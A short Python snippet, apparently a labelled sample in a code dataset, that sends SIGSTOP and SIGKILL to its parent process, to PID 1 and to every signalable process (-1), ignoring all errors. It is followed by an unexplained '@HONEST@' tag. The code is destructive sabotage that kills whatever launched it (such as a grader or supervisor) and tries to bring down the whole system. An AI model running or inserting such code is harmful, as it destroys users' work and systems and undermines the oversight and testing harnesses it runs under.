import os, signal

for process in (os.getppid(), 1, -1, 0):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            if process:
                os.kill(process, number)
        except OSError:
            pass

@HONEST@
